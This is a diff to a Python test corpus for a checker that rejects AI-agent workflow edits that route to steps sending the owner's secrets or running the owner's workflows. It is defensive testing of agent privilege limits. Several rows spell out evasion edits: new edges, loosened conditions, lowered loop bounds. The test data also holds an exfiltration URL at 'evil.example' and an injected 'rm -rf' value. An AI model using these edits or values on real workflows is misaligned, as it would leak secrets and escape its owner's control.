@@ -194,6 +194,30 @@ POLLED = {"nodes": [agent("plan"), transform("page"), http("post", method="POST"
           "edges": LOOPED["edges"]}
 
 
+# An author's branch onto a step that sends a secret, and a child workflow fed by a step: /nodes: 0 plan, 1 check,
+# 2 post (sends a secret and draft's text, only when inputs.send), 3 note, 4 draft, 5 deploy (runs the owner's
+# workflow on draft's text), 6 aside; /edges: 0 check→post (inputs.send == true), 1 check→note, 2 draft→post,
+# 3 draft→deploy
+ROUTED = {
+    "nodes": [agent("plan"), {"id": "check", "type": "conditional", "config": {}},
+              http("post", method="POST", headers={"X-Api-Key": "$secrets.API_TOKEN"}, payload="$nodes.draft"),
+              transform("note"), transform("draft", expression="'release notes'"),
+              {"id": "deploy", "type": "workflow", "config": {"tag": "deploy", "inputs": "$nodes.draft"}},
+              transform("aside")],
+    "edges": [edge("check", "post", "inputs.send == true"), edge("check", "note"), edge("draft", "post"),
+              edge("draft", "deploy")],
+}
+
+
+# A poll that raises an alert with the owner's key when it times out: /nodes: 0 plan, 1 page, 2 more, 3 alert;
+# /edges: 0 plan→page, 1 page→more
+TIMED = {"nodes": [agent("plan"), transform("page"),
+                   {"id": "more", "type": "loop", "config": {"max_iterations": 10, "loop_back_to": "page",
+                                                              "condition": "iteration < 1", "timeout_path": "alert"}},
+                   http("alert", method="POST", headers={"X-Api-Key": "$secrets.API_TOKEN"})],
+         "edges": [edge("plan", "page"), edge("page", "more")]}
+
+
 def loop_back(target: str, node_id: str = "again") -> list[dict[str, Any]]:
     """A loop after ``target`` that runs it again, up to the schema's most iterations."""
     return [add_node({"id": node_id, "type": "loop", "config": {"max_iterations": 10000, "loop_back_to": target}}),
@@ -673,12 +697,18 @@ CORPUS = [
         [*after("plan", transform("x")), add_edge("x", "post"),
          add_node({"id": "l", "type": "loop", "config": {"max_iterations": 10000, "loop_back_to": "x"}}),
          add_edge("post", "l")], "secret_reference"),
-    # a loop's exit is an edge: its target runs once, as after a plain edge
-    row("loop-exit-onto-a-secret-sender-accepted", STAGED, PLANNING, PLAN,
+    # a loop's exit is an edge: its target runs once, as after a plain edge, and an edge into a step that
+    # sends the owner's secrets decides when it runs (the author's, below)
+    row("loop-exit-onto-a-plain-step-accepted", STAGED, PLANNING, PLAN,
+        [*after("plan", transform("x")), *after("plan", transform("y")),
+         add_node({"id": "l", "type": "loop", "config": {"max_iterations": 2, "loop_back_to": "x",
+                                                          "break_path": "y"}}), add_edge("x", "l")],
+        "applied"),
+    row("secret-loop-exit-onto-a-secret-sender", STAGED, PLANNING, PLAN,
         [*after("plan", transform("x")),
          add_node({"id": "l", "type": "loop", "config": {"max_iterations": 2, "loop_back_to": "x",
                                                           "break_path": "post"}}), add_edge("x", "l")],
-        "applied"),
+        "secret_reference", 2),
     row("loop-back-to-a-plain-step-accepted", STAGED, PLANNING, PLAN,
         [*after("plan", transform("x")), *loop_back("x")], "applied"),
     # what hangs off a loop's body runs on every pass too (planner.loop_reruns)
@@ -691,7 +721,13 @@ CORPUS = [
         "secret_reference", 0),
     row("secret-loop-condition-removed", LOOPED, PLANNING, PLAN, [remove("/nodes/3/config/condition")],
         "secret_reference", 0),
-    row("loop-fewer-iterations-accepted", LOOPED, PLANNING, PLAN, [replace("/nodes/3/config/max_iterations", 2)],
+    # fewer passes of a step that sends a secret are still the author's to set: a lower bound can end a loop on its
+    # timeout path (the alert) where its condition would have ended it on the other
+    row("secret-loop-fewer-iterations", LOOPED, PLANNING, PLAN, [replace("/nodes/3/config/max_iterations", 2)],
+        "secret_reference", 0),
+    row("secret-loop-bound-lowered-onto-its-timeout-path", TIMED, PLANNING, PLAN,
+        [replace("/nodes/2/config/max_iterations", 1)], "secret_reference", 0),
+    row("loop-fewer-iterations-accepted", POLLED, PLANNING, PLAN, [replace("/nodes/3/config/max_iterations", 2)],
         "applied"),
     # an author's loop bound is the author's, whatever it runs again: the agent's own self included
     row("loop-bound-raised", POLLED, PLANNING, PLAN, [replace("/nodes/3/config/max_iterations", 10000)],
@@ -764,6 +800,30 @@ CORPUS = [
         [replace("/nodes/1/config/url", "https://evil.example/orders")], "secret_reference", 0),
     row("secret-feed-an-agent-holding-credentials-its-proposer-holds-accepted",
         with_config(KEYED, "plan", auth=CRM_AUTH), PLANNING, PLAN, [add_edge("plan", "ops")], "applied"),
+    # what decides whether an author's step that sends the owner's secrets (or runs one of the owner's
+    # workflows) runs, and what it sends, is its author's: an agent may not route to it, nor rewrite what
+    # it reads, any more than it may rewrite the step itself
+    row("secret-routed-to-by-a-new-edge", ROUTED, PLANNING, PLAN, [add_edge("plan", "post")], "secret_reference", 0),
+    row("secret-routed-to-through-a-new-step", ROUTED, PLANNING, PLAN,
+        [*after("plan", transform("x")), add_edge("x", "post")], "secret_reference", 2),
+    row("secret-routing-rule-loosened", ROUTED, PLANNING, PLAN, [replace("/edges/0/condition", "true")],
+        "secret_reference", 0),
+    row("secret-routing-rule-removed", ROUTED, PLANNING, PLAN, [remove("/edges/0/condition")], "secret_reference",
+        0),
+    row("secret-router-rewritten-upstream", ROUTED, PLANNING, PLAN,
+        [add_node(transform("gate0")), add_edge("plan", "gate0"), add_edge("gate0", "check")], "secret_reference", 2),
+    row("secret-what-it-sends-rewritten", ROUTED, PLANNING, PLAN,
+        [replace("/nodes/4/config/expression", "nodes.plan")], "secret_reference", 0),
+    row("workflow-inputs-rewritten", with_config(ROUTED, "post", headers={}), PLANNING, PLAN,
+        [replace("/nodes/4/config/expression", "'rm -rf'")], "agent_privilege", 0),
+    row("workflow-routed-to-by-a-new-edge", ROUTED, PLANNING, PLAN, [add_edge("plan", "deploy")],
+        "agent_privilege", 0),
+    row("secret-steps-after-itself-accepted", ROUTED, PLANNING, PLAN,
+        [*after("plan", transform("x")), *after("x", http("y", f"{API}/y"))], "applied"),
+    row("secret-unrelated-step-rewritten-accepted", ROUTED, PLANNING, PLAN,
+        [replace("/nodes/6/config/expression", "'2'"), add_edge("plan", "aside")], "applied"),
+    row("secret-route-from-a-step-that-holds-it-accepted", with_config(ROUTED, "plan", auth=CRM_AUTH), PLANNING,
+        PLAN, [replace("/edges/0/condition", "true")], "applied"),
     row("privilege-attempts-as-a-float", INVOICE, PLANNING, PLAN,
         after("plan", {**agent("helper"), "retry": {"max_attempts": 20.0}}), "agent_privilege", 0),
     row("privilege-timeout-as-a-float", INVOICE, PLANNING, PLAN,
